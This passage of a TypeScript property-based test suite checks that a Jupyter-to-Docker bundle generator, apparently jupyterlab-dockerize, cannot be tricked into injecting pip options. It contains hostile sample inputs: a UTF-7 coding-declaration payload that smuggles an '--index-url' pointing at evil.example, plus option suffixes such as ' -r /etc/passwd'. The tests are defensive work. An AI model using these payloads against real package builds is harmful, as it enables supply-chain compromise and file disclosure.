      problems.push(`environment.yml: the channel ${shown(channel)}`);
    }
  }
  if (new Set(channels).size !== channels.length) {
    problems.push('environment.yml: a channel listed twice');
  }
  // Dependencies: python first, conda specs of packages of the snapshot (or the Jupyter
  // pin), "pip" and one {pip: [...]} with lines of the plan.
  const dependencies = data.dependencies;
  if (!Array.isArray(dependencies)) {
    problems.push(`environment.yml: dependencies is ${shown(dependencies)}`);
    return problems;
  }
  const condaPins = new Set<string>([
    `jupyterlab=${JUPYTERLAB_VERSION}`,
    `notebook=${NOTEBOOK_VERSION}`
  ]);
  for (const item of input.snapshot.conda?.packages ?? []) {
    condaPins.add(`${item.name}=${item.version}`);
  }
  const spec =
    /^(?:([^:]+)::)?([A-Za-z0-9_][A-Za-z0-9_.+-]*)(?:=([A-Za-z0-9][A-Za-z0-9_.+!]*))?$/;
  const seen = new Set<string>();
  let pipLines: string[] | null = null;
  let pipMarker = false;
  dependencies.forEach((item, index) => {
    if (typeof item === 'string') {
      if (seen.has(item)) {
        problems.push(`environment.yml: ${shown(item)} listed twice`);
      }
      seen.add(item);
      if (item === 'pip' && index > 0) {
        pipMarker = true;
        return;
      }
      const match = spec.exec(item);
      if (!match) {
        problems.push(`environment.yml: the dependency ${shown(item)}`);
        return;
      }
      const [, channel, name, version] = match;
      if (channel !== undefined && !channels.includes(channel)) {
        problems.push(
          `environment.yml: ${shown(item)} names a channel not listed`
        );
      }
      if (index === 0) {
        if (
          name !== 'python' ||
          (version !== undefined &&
            !/^[0-9]+\.[0-9]+(?:\.[0-9]+)?$/.test(version))
        ) {
          problems.push(
            `environment.yml: the first dependency is ${shown(item)}`
          );
        }
      } else if (!condaPins.has(`${name}=${version}`)) {
        problems.push(
          `environment.yml: ${shown(item)} is not a package of the snapshot`
        );
      }
    } else if (
      isObject(item) &&
      Object.keys(item).join() === 'pip' &&
      Array.isArray(item.pip) &&
      pipLines === null &&
      index === dependencies.length - 1
    ) {
      pipLines = item.pip as string[];
    } else {
      problems.push(`environment.yml: the dependency ${shown(item)}`);
    }
  });
  const lines: string[] = pipLines ?? [];
  if (pipMarker !== (pipLines !== null)) {
    problems.push(
      'environment.yml: "pip" and the pip: section do not go together'
    );
  }
  if (lines.some(line => typeof line !== 'string')) {
    problems.push(`environment.yml: pip items ${shown(lines)}`);
    return problems;
  }
  // micromamba hands the pip: section to pip as a requirements file.
  const read = readAsPip(
    `${lines.join('\n')}\n`,
    'environment.yml pip:',
    problems
  );
  if (read.length !== lines.length) {
    problems.push('environment.yml: a pip item is not one line for pip');
  }
  problems.push(
    ...pipLineProblems(read, input.plan, 'environment.yml pip:', false)
  );
  // Nothing removed: an entry the plan keeps with a line that is one requirement is in
  // the pip: section or a conda spec.
  for (const entry of input.plan.entries) {
    if (
      entry.status !== 'excluded' &&
      entry.line !== null &&
      ONE_REQUIREMENT.test(entry.line) &&
      !lines.includes(entry.line) &&
      ![...seen].some(item => {
        const name = spec.exec(item)?.[2];
        return (
          name !== undefined &&
          [entry.name, `python-${entry.name}`].includes(normalizeName(name))
        );
      })
    ) {
      problems.push(`environment.yml: ${shown(entry.line)} is missing`);
    }
  }
  return problems;
}

// ---------------------------------------------------------------------------------------
// All the files of a bundle

/** binder/start: the fixed lines, one `export NAME='value'` per accepted variable, exec. */
function binderStartProblems(input: IBundleInput, text: string): string[] {
  const lines = text.split('\n');
  const expected = Object.entries(acceptedEnv(input.options.env)).sort(
    ([a], [b]) => (a < b ? -1 : a > b ? 1 : 0)
  );
  const problems: string[] = [];
  if (
    lines[0] !== '#!/bin/bash' ||
    !lines[1].startsWith('# ') ||
    !lines[2].startsWith('# ') ||
    lines[lines.length - 2] !== 'exec "$@"' ||
    lines[lines.length - 1] !== ''
  ) {
    problems.push(`binder/start: frame ${shown(text)}`);
  }
  const exports = lines.slice(3, -2);
  if (exports.length !== expected.length) {
    problems.push(`binder/start: ${exports.length} exports`);
  }
  exports.forEach((line, index) => {
    const match = /^export ([A-Za-z_][A-Za-z0-9_]*)='((?:[^']|'\\'')*)'$/.exec(
      line
    );
    const value = match?.[2].replace(/'\\''/g, "'");
    if (
      !match ||
      match[1] !== expected[index]?.[0] ||
      value !== expected[index]?.[1]
    ) {
      problems.push(`binder/start: line ${shown(line)}`);
    }
  });
  return problems;
}

function bundleProblems(input: IBundleInput, strict: boolean): IChecked {
  const bundle = generateBundle(input);
  const problems = [
    ...requirementsProblems(
      input.plan,
      bundle.files['requirements.txt'],
      strict
    ),
    ...composeProblems(input, bundle.files['compose.yaml'])
  ];
  const start = bundle.files['binder/start'];
  if (start !== undefined) {
    problems.push(...binderStartProblems(input, start));
  }
  const environment = bundle.files['environment.yml'];
  if (input.options.template === 'conda' && environment === undefined) {
    problems.push('environment.yml: missing for the conda template');
  }
  if (environment !== undefined) {
    problems.push(...environmentProblems(input, environment));
  }
  return { problems, dockerfile: { input, text: bundle.files['Dockerfile'] } };
}

// ---------------------------------------------------------------------------------------
// The tests

/** Inputs per test: 12,500 together, above the 10,000. */
const OPTION_RUNS = 5000;
const SNAPSHOT_RUNS = 5000;
const PLAN_RUNS = 2500;

describe('hostile inputs through generateBundle', () => {
  it('options, file names and the kernel: no instruction, option or key is added', () => {
    const counts = tally();
    const arbitrary = fc.record({
      options: optionsArbitrary,
      head: snapshotHeadArbitrary,
      notebooks: fc.array(mixed(PATHS), { maxLength: 3 }),
      dataFiles: fc.array(mixed(PATHS), { maxLength: 3 }),
      conda: fc.boolean()
    });
    const failures = runInputs(counts, arbitrary, OPTION_RUNS, sample => {
      const input: IBundleInput = {
        snapshot: snapshotWith(sample.head),
        plan: BENIGN_PLAN,
        notebooks: sample.notebooks,
        dataFiles: sample.dataFiles,
        options: sample.options
      };
      if (sample.conda) {
        input.snapshot = {
          ...input.snapshot,
          kind: 'conda',
          conda: {
            packages: [
              {
                name: 'numpy',
                version: '2.1.0',
                build: 'py_0',
                channel: 'conda-forge'
              }
            ]
          }
        };
      }
      return bundleProblems(input, true);
    });
    expect(report(failures)).toEqual([]);
    expect(counts.tried).toBeGreaterThanOrEqual(OPTION_RUNS);
    expect(counts.injected).toBe(0);
  });

  it('distributions, direct URLs and conda packages of the snapshot, through translateRequirements', () => {
    const counts = tally();
    const directUrl: fc.Arbitrary<IDirectUrl | null> = fc.oneof(
      fc.constant(null),
      fc.record(
        {
          url: mixed(VCS_URLS),
          vcs_info: fc.record(
            {
              vcs: mixed(['git', 'hg', 'svn', 'bzr']),
              commit_id: mixed([HEX40, '1234', 'main']),
              requested_revision: mixed(['main', 'v1.0'])
            },
            { requiredKeys: ['vcs', 'commit_id'] }
          ),
          subdirectory: mixed(['sub', 'a/b'])
        },
        { requiredKeys: ['url', 'vcs_info'] }
      ),
      fc.record({
        url: mixed(DIR_URLS),
        dir_info: fc.record({ editable: fc.boolean() })
      }),
      fc.record({
        url: mixed(ARCHIVE_URLS),
        archive_info: fc.constant({ hash: `sha256=${'0'.repeat(64)}` })
      })
    );
    const distribution = fc.record({
      name: mixed(NAMES),
      version: mixed(VERSIONS),
      installer: fc.oneof(
        fc.constantFrom('pip', 'conda', 'uv', null),
        mixed(['pip', 'conda'])
      ),
      directUrl,
      location: fc.oneof(
        fc.constant(SITE),
        mixed([SITE, '/home/u/work/proj/src'])
      ),
      // the conda package that installed it, when there is one
      conda: fc.option(
        fc.record({
          name: fc.oneof(fc.constant(''), mixed(NAMES)),
          version: fc.oneof(fc.constant(''), mixed(VERSIONS)),
          channel: mixed(CHANNELS)
        })
      )
    });
    const arbitrary = fc.record({
      options: optionsArbitrary,
      head: snapshotHeadArbitrary,
      distributions: fc.array(distribution, { maxLength: 5 }),
      python: fc.option(
        fc.record({ version: mixed(PYTHONS), channel: mixed(CHANNELS) })
      ),
      conda: fc.boolean()
    });
    const failures = runInputs(counts, arbitrary, SNAPSHOT_RUNS, sample => {
      const packages: ICondaPackage[] = [];
      const distributions: IDistribution[] = sample.distributions.map(item => {
        if (item.conda) {
          packages.push({
            // an empty name or version stands for the distribution's own
            name: item.conda.name || item.name,
            version: item.conda.version || item.version,
            build: 'py_0',
            channel: item.conda.channel
          });
        }
        return {
          name: item.name,
          displayName: item.name,
          version: item.version,
          installer: item.installer,
          requires: [],
          topLevel: [],
          directUrl: item.directUrl,
          location: item.location
        };
      });
      if (sample.python) {
        packages.push({ name: 'python', build: 'h0', ...sample.python });
      }
      const snapshot = snapshotWith(sample.head, {
        kind: sample.conda ? 'conda' : 'venv',
        conda: sample.conda ? { packages } : null,
        distributions
      });
      const names = new Set(sample.distributions.map(item => item.name));
      const plan = translateRequirements(snapshot, {
        jupyterRoot: '/home/u/work',
        vendor: names,
        include: names,
        wheelhouse: sample.options.wheelhouse
      });
      return bundleProblems(
        {
          snapshot,
          plan,
          notebooks: ['a.ipynb'],
          options: sample.options
        },
        true
      );
    });
    expect(report(failures)).toEqual([]);
    expect(counts.tried).toBeGreaterThanOrEqual(SNAPSHOT_RUNS);
    expect(counts.injected).toBe(0);
  });

  it('hand-built plans: lines, names and vendored paths the translation would never make', () => {
    const counts = tally();
    const entry: fc.Arbitrary<IRequirementEntry> = fc.record({
      name: mixed(NAMES),
      version: mixed(VERSIONS),
      source: fc.constantFrom<RequirementSource>(
        'index',
        'conda',
        'local-archive',
        'vcs',
        'editable',
        'local-dir'
      ),
      status: fc.constantFrom<RequirementStatus>(
        'pinned',
        'rewritten',
        'vcs',
        'warning',
        'excluded',
        'vendorable'
      ),
      // A space before "-" (an option after the requirement) is the known gap of
      // isSafeLine, tested on its own below ("an option after a requirement ...").
      line: fc.option(mixed(LINES), {
        nil: null
      }),
      reason: hostile
    });
    const arbitrary = fc.record({
      options: optionsArbitrary,
      entries: fc.array(entry, { maxLength: 5 }),
      vendorPaths: fc.array(vendorPathArbitrary, { maxLength: 3 }),
      python: hostile,
      platform: hostile,
      conda: fc.boolean()
    });
    const failures = runInputs(counts, arbitrary, PLAN_RUNS, sample => {
      const plan: IRequirementsPlan = {
        python: sample.python,
        platform: sample.platform,
        entries: sample.entries,
        vendorPaths: sample.vendorPaths
      };
      const packages: ICondaPackage[] = sample.entries.map(item => ({
        name: item.name,
        version: item.version,
        build: 'py_0',
        channel: 'conda-forge'
      }));
      return bundleProblems(
        {
          snapshot: {
            ...BENIGN_SNAPSHOT,
            kind: sample.conda ? 'conda' : 'venv',
            conda: sample.conda ? { packages } : null
          },
          plan,
          notebooks: ['a.ipynb'],
          options: sample.options
        },
        false
      );
    });
    expect(report(failures)).toEqual([]);
    expect(counts.tried).toBeGreaterThanOrEqual(PLAN_RUNS);
    expect(counts.injected).toBe(0);
  });
});

describe('injections found by this suite, now fixed', () => {
  const KNOWN_RUNS = 200;

  // FIXED. Was: requirements.txt's first line was `# Generated by jupyterlab-dockerize from the
  // kernel's environment (<implementation> <version>, <platform tag>).`, with the
  // captured text as is (printable ASCII). pip reads a PEP 263 declaration in the first
  // two lines (`coding[:=]\s*([-\w.]+)`, pip/_internal/utils/encoding.py auto_decode,
  // documented in the requirements file format) and decodes the whole file with that
  // codec: with `coding:utf-7`, `+AAo-` is a newline, so a comment becomes an option line
  // such as `--index-url=http://evil.example/simple`, and `pip install -r requirements.txt`
  // (the pip, docker-stacks and custom templates without the wheelhouse; Binder) then
  // installs from that index. The platform tag is what sysconfig.get_platform() returns in
  // the kernel: `_PYTHON_HOST_PLATFORM` when set, which any notebook cell can set before
  // the capture. Fix: keep captured text out of the first two lines (or break up
  // `coding[:=]` in it).
  it('no PEP 263 coding declaration reaches the first two lines of requirements.txt', () => {
    const counts = tally();
    // After UTF-7 decoding: "...(CPython 3.11.7, coding:utf-7 ", then the line
    // "--index-url=http://evil.example/simple", then "#)." (a comment).
    const payload =
      'coding:utf-7 +AAo---index-url=http://evil.example/simple+AAo-#';
    const arbitrary = fc.record({
      implementation: fc.oneof(fc.constant('CPython'), mixed(['CPython'])),
      version: mixed(PYTHONS),
      tag: mixed(['linux-x86_64', payload]),
      template: fc.constantFrom(...BUNDLE_TEMPLATES)
    });
    const failures = runInputs(
      counts,
      arbitrary,
      KNOWN_RUNS,
      sample => {
        const snapshot: IEnvironmentSnapshot = {
          ...BENIGN_SNAPSHOT,
          python: {
            implementation: sample.implementation,
            version: sample.version
          },
          platform: { ...BENIGN_SNAPSHOT.platform, tag: sample.tag },
          distributions: [
            {
              name: 'numpy',
              displayName: 'numpy',
              version: '2.1.0',
              installer: 'pip',
              requires: [],
              topLevel: [],
              directUrl: null,
              location: SITE
            }
          ]
        };
        const plan = translateRequirements(snapshot);
        const bundle = generateBundle({
          snapshot,
          plan,
          notebooks: ['a.ipynb'],
          options: {
            template: sample.template,
            ui: 'lab',
            created: DATES[0],
            generatorVersion: '0.1.0'
          }
        });
        return {
          problems: requirementsProblems(
            plan,
            bundle.files['requirements.txt'],
            true
          )
        };
      },
      [
        {
          implementation: 'CPython',
          version: '3.11.7',
          tag: payload,
          template: 'pip' as const
        }
      ]
    );
    expect(report(failures)).toEqual([]);
    expect(counts.tried).toBeGreaterThanOrEqual(KNOWN_RUNS);
  });

  // FIXED (defence in depth: translateRequirements never makes such a line): isSafeLine,
  // the final gate of renderRequirementsTxt and renderEnvironmentYml, passes a line with
  // an option after the requirement, e.g. `numpy==2.1.0 --global-option=--evil`. pip
  // splits the line at the first token that starts with "-" (break_args_options) and
  // keeps --hash, --global-option and --config-settings for that requirement. Fix: refuse
  // a space-separated token that starts with "-" in isSafeLine.
  it('an option after a requirement does not pass the final line check', () => {
    const counts = tally();
    const arbitrary = fc.record({
      line: fc.constantFrom(...LINES),
      option: fc.constantFrom(
        ' --global-option=--evil',
        ' --config-settings=--build-option=--evil',
        ` --hash=sha256:${'0'.repeat(64)}`,
        ' --index-url=http://evil.example/simple',
        ' -r /etc/passwd'
      ),
      template: fc.constantFrom(...BUNDLE_TEMPLATES)
    });
    const failures = runInputs(counts, arbitrary, KNOWN_RUNS, sample => {
      const line = sample.line + sample.option;
      const plan: IRequirementsPlan = {
        ...BENIGN_PLAN,
        entries: [
          {
            name: 'numpy',
            version: '2.1.0',
            source: 'index',
            status: 'pinned',
            line,
            reason: 'Hand-built.'
          }
        ]
      };
      const bundle = generateBundle({
        snapshot: BENIGN_SNAPSHOT,
        plan,
        notebooks: ['a.ipynb'],
        options: {
          template: sample.template,
          ui: 'lab',
          created: DATES[0],
          generatorVersion: '0.1.0'
        }
      });
      const problems: string[] = [];
      const lines = readAsPip(
        bundle.files['requirements.txt'],
        'requirements.txt',
        problems
      );
      for (const read of lines) {
        if (read.options) {
          problems.push(
            `requirements.txt: the option ${JSON.stringify(read.options)}`
          );
        }
      }
      return { problems };
    });
    expect(report(failures)).toEqual([]);
    expect(counts.tried).toBeGreaterThanOrEqual(KNOWN_RUNS);
  });
});
